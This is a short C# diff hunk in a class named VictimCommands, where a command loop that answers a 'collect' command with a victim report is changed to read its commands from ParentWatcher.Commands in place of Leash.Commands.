@@ -15,7 +15,7 @@ internal static class VictimCommands
 
     internal static async Task AnswerAsync(Func<VictimReport> report)
     {
-        await foreach (var command in Leash.Commands.ReadAllAsync())
+        await foreach (var command in ParentWatcher.Commands.ReadAllAsync())
         {
             if (command == "collect")
             {
